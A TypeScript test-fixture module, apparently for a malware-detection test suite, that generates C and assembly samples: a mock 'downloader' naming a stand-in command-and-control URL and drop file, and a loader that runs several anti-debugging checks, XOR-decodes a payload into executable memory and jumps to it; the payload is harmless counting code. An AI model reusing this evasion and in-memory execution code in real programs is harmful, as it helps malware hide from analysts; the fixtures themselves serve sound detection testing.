/** A program with known behaviour, which tests pack. `seed` makes each different. */
export const downloader = (seed = 0) => `
#include <stdio.h>
#include <string.h>
#include <windows.h>
static const char *volatile where = "http://evil.example/c2/gate${seed}.php";
static int mix(int value) { for (int i = 0; i < 32; i++) value = value * ${1_103_515_245 + 2 * seed} + ${12_345 + seed} + i; return value; }
int main(int argc, char **argv) {
  char text[200];
  HMODULE user = LoadLibraryA("user32.dll");
  strcpy(text, where);
  printf("%s %p %d %d\\n", text, user, argc, mix(argc));
  HANDLE file = CreateFileA("C:\\\\temp\\\\drop${seed}.bin", GENERIC_WRITE, 0, 0, CREATE_ALWAYS, 0, 0);
  DWORD written;
  WriteFile(file, text, 10, &written, 0);
  CloseHandle(file);
  Sleep(${100 + seed});
  return 0;
}
`

/** A loader that checks for debuggers, then decrypts code into allocated memory and jumps there. */
export const loader = (payload: Buffer, isCareful: boolean) => `
#include <windows.h>
static unsigned char hidden[] = { ${[...payload].map((byte) => byte ^ 0x77).join(',')} };
typedef LONG (WINAPI *Query)(HANDLE, int, PVOID, ULONG, PULONG);
static int isWatched(void) {
  BOOL remote = FALSE;
  ULONG_PTR port = 1;
  DWORD before = GetTickCount();
  Query query = (Query)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtQueryInformationProcess");
  CheckRemoteDebuggerPresent(GetCurrentProcess(), &remote);
  if (IsDebuggerPresent() || remote || !query) return 1;
  if (query(GetCurrentProcess(), 7, &port, sizeof port, 0) != 0 || port != 0) return 1;
  if (GetProcAddress(GetModuleHandleA("kernel32.dll"), "NoSuchFunctionAnywhere")) return 1;
  Sleep(500);
  DWORD after = GetTickCount();
  return after - before < 500 || after - before > 2000;
}
int main(void) {
  if (${isCareful ? 'isWatched()' : '0'}) return 1;
  unsigned char *code = VirtualAlloc(0, sizeof hidden, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
  for (unsigned i = 0; i < sizeof hidden; i++) code[i] = hidden[i] ^ 0x77;
  ((void (*)(void))code)();
  return 0;
}
`

/** Position-independent code that counts and returns. */
export const payloadSource = `
mov ecx, 1000
xor eax, eax
.next: add eax, ecx
dec ecx
jnz .next
ret
db 'the hidden payload'
`
